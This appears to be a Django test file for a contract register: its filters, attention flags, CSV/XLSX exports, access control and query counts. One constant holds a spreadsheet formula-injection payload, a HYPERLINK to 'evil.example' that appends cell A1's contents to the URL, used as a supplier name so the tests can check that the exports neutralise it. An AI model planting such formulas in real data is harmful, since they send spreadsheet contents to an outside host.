"""The buyer's contract register: its filters, what it flags, the CSV and XLSX of what is
filtered (a name typed as a formula opens as text), and a page of many contracts read in a
fixed number of queries."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from levelfield.contracts.actions import records
from levelfield.contracts.models import AccreditationLevel
from levelfield.contracts.selectors_records import RegisterFilters, flags, register
from levelfield.core import clock
from tests.support import testing

from .records_data import accredit, buyer_with_people, entered

pytestmark = pytest.mark.django_db
BACKEND = "django.contrib.auth.backends.ModelBackend"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") Ltd'


@pytest.fixture
def people():
    return buyer_with_people()


@pytest.fixture
def register_of(people):
    """Four contracts of one buyer, hand-built so each filter's answer is known:
    GM-1 bronze, managed by an expert, recorded (flag: awaiting signature);
    GM-2 silver (medium risk), no manager, signed (flag: no manager);
    GM-3 gold (critical), managed by a foundation officer, live (flag: under-accredited);
    GM-4 bronze, managed by the expert, live, nothing to flag."""
    buyer, admin, officer, evaluator = people
    accredit(evaluator, AccreditationLevel.EXPERT, buyer=buyer, by=admin)
    accredit(officer, AccreditationLevel.FOUNDATION, buyer=buyer, by=admin)
    acorn, _ = testing.supplier_with_user("Acorn Grounds Ltd")
    hostile, _ = testing.supplier_with_user(HOSTILE)
    start = clock.today_uk() + timedelta(days=30)
    end = start + timedelta(days=700)
    common = {"start_date": start, "end_date": end}
    gm1 = entered(
        buyer=buyer,
        by=officer,
        supplier=acorn,
        reference="GM-1",
        contract_manager=evaluator,
        **common,
    )
    gm2 = entered(
        buyer=buyer,
        by=officer,
        supplier=hostile,
        reference="GM-2",
        risk="medium",
        value=Decimal("250000.50"),
        **common,
    )
    gm3 = entered(
        buyer=buyer,
        by=officer,
        supplier=acorn,
        reference="GM-3",
        critical=True,
        contract_manager=officer,
        **common,
    )
    gm4 = entered(
        buyer=buyer,
        by=officer,
        supplier=acorn,
        reference="GM-4",
        contract_manager=evaluator,
        **common,
    )
    for contract in (gm2, gm3, gm4):
        records.sign_let_elsewhere(contract=contract, by=admin)
    for contract in (gm3, gm4):
        records.go_live(contract=contract, by=officer)
    return {"buyer": buyer, "people": people, "contracts": (gm1, gm2, gm3, gm4)}


def refs(queryset) -> list[str]:
    return sorted(c.reference for c in queryset)


def test_each_filter_gives_the_contracts_worked_out_by_hand(register_of):
    buyer = register_of["buyer"]
    _, _, officer, evaluator = register_of["people"]
    today = clock.today_uk()

    def pick(**filters):
        return refs(register(buyer, RegisterFilters(**filters), today))

    assert pick() == ["GM-1", "GM-2", "GM-3", "GM-4"]
    assert pick(status="live") == ["GM-3", "GM-4"]
    assert pick(status="recorded") == ["GM-1"]
    assert pick(tier="gold") == ["GM-3"]
    assert pick(tier="silver") == ["GM-2"]
    assert pick(tier="bronze") == ["GM-1", "GM-4"]
    assert pick(manager=evaluator.pk) == ["GM-1", "GM-4"]
    assert pick(manager=officer.pk) == ["GM-3"]
    assert pick(manager=0) == ["GM-2"]
    assert pick(flagged=True) == ["GM-1", "GM-2", "GM-3"]
    assert pick(flagged=False) == ["GM-4"]
    assert pick(flagged=True, status="live") == ["GM-3"]


def test_the_flags_say_what_needs_attention(register_of):
    gm1, gm2, gm3, gm4 = register_of["contracts"]
    today = clock.today_uk()
    rows = {
        c.reference: flags(c, today)
        for c in register(register_of["buyer"], RegisterFilters(), today)
    }

    assert rows["GM-1"] == ["Awaiting signature"]
    assert rows["GM-2"] == ["No contract manager"]
    assert rows["GM-3"] == [
        "A gold contract needs an expert contract manager; its manager has foundation accreditation"
    ]
    assert rows["GM-4"] == []
    # A signed contract past its start date and not live is flagged too.
    with clock.frozen_at(clock.now() + timedelta(days=40)):
        later = clock.today_uk()
        gm2.refresh_from_db()
        assert "Past its start date and not live yet" in flags(gm2, later)


def test_the_register_page_filters_and_shows_the_flag_column(client, register_of):
    _, _, officer, _ = register_of["people"]
    client.force_login(officer, backend=BACKEND)

    everything = client.get(reverse("contracts:register")).content.decode()
    flagged = client.get(reverse("contracts:register"), {"flagged": "yes", "tier": "gold"})

    assert "4 contracts" in everything
    assert "Needs attention" in everything
    assert "Enter a contract let elsewhere" in everything
    body = flagged.content.decode()
    assert "1 contract." in body
    assert ">GM-3<" in body and ">GM-4<" not in body and ">GM-1<" not in body
    assert "its manager has foundation accreditation" in body
    assert "download/csv/?flagged=yes&amp;tier=gold" in body


def test_an_evaluator_reads_the_register_but_does_not_enter_contracts(client, register_of):
    _, _, _, evaluator = register_of["people"]
    client.force_login(evaluator, backend=BACKEND)

    body = client.get(reverse("contracts:register")).content.decode()

    assert "4 contracts" in body
    assert "Enter a contract let elsewhere" not in body
    assert client.get(reverse("contracts:enter")).status_code == 403


def test_the_csv_holds_the_filtered_register_with_names_made_safe(client, register_of):
    _, _, officer, _ = register_of["people"]
    client.force_login(officer, backend=BACKEND)

    response = client.get(reverse("contracts:register_download", args=["csv"]), {"manager": "0"})

    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    start = clock.today_uk() + timedelta(days=30)
    assert rows == [
        [
            "Reference",
            "Title",
            "Supplier",
            "Value (GBP)",
            "Start date",
            "End date",
            "Status",
            "Tier",
            "Contract manager",
            "Needs attention",
        ],
        [
            "GM-2",
            "Grounds maintenance",
            "'" + HOSTILE,
            "250000.50",
            start.isoformat(),
            (start + timedelta(days=700)).isoformat(),
            "Signed",
            "Silver",
            "",
            "No contract manager",
        ],
    ]


def test_the_xlsx_holds_every_contract_with_numbers_as_numbers(client, register_of):
    _, _, officer, _ = register_of["people"]
    client.force_login(officer, backend=BACKEND)

    response = client.get(reverse("contracts:register_download", args=["xlsx"]))

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["Contract register"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Reference" and len(rows) == 5
    by_reference = {row[0]: row for row in rows[1:]}
    assert by_reference["GM-2"][2] == "'" + HOSTILE
    assert by_reference["GM-2"][3] == 250000.5
    assert by_reference["GM-3"][7] == "Gold"
    assert by_reference["GM-4"][8] == "Eve Evaluator"
    assert not [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_an_unknown_download_is_not_found_and_another_buyer_gets_nothing(client, register_of):
    _, _, other_officer, _ = buyer_with_people("Vale District Council")
    client.force_login(other_officer, backend=BACKEND)

    assert client.get(reverse("contracts:register_download", args=["ods"])).status_code == 404
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("contracts:register_download", args=["csv"])).content.decode()
            )
        )
    )
    assert len(rows) == 1  # the header only


def test_the_register_page_reads_a_page_of_many_contracts_in_a_fixed_number_of_queries(
    client, people, django_assert_max_num_queries
):
    buyer, admin, officer, evaluator = people
    acorn, _ = testing.supplier_with_user("Acorn Grounds Ltd")
    accredit(evaluator, AccreditationLevel.PRACTITIONER, buyer=buyer, by=admin)
    client.force_login(officer, backend=BACKEND)

    def add(count):
        for number in range(count):
            entered(
                buyer=buyer,
                by=officer,
                supplier=acorn,
                contract_manager=(evaluator, officer, None)[number % 3],
                start_date=date(2027, 4, 1),
                end_date=date(2029, 3, 31),
            )

    add(3)
    with django_assert_max_num_queries(30) as few:
        client.get(reverse("contracts:register"))
    add(40)
    with django_assert_max_num_queries(len(few.captured_queries)) as many:
        response = client.get(reverse("contracts:register"))
    assert response.content.decode().count('href="/buyer/contracts/') >= 25
    assert len(many.captured_queries) == len(few.captured_queries)


def test_the_public_register_and_the_suppliers_list_stay_flat_with_many_contracts(
    client, people, django_assert_max_num_queries
):
    buyer, admin, officer, _ = people
    acorn, acorn_user = testing.supplier_with_user("Acorn Grounds Ltd")

    def add(count):
        for _ in range(count):
            records.sign_let_elsewhere(
                contract=entered(buyer=buyer, by=officer, supplier=acorn), by=admin
            )

    add(2)
    client.force_login(acorn_user, backend=BACKEND)
    with django_assert_max_num_queries(30) as few_public:
        client.get(reverse("contracts:public_register"))
    with django_assert_max_num_queries(30) as few_supplier:
        client.get(reverse("contracts:supplier_contracts"))
    add(30)
    with django_assert_max_num_queries(len(few_public.captured_queries)):
        public = client.get(reverse("contracts:public_register"))
    with django_assert_max_num_queries(len(few_supplier.captured_queries)):
        mine = client.get(reverse("contracts:supplier_contracts"))
    assert "32 contracts" in public.content.decode()
    assert mine.content.decode().count('href="/supplier/contracts/') == 25  # one page
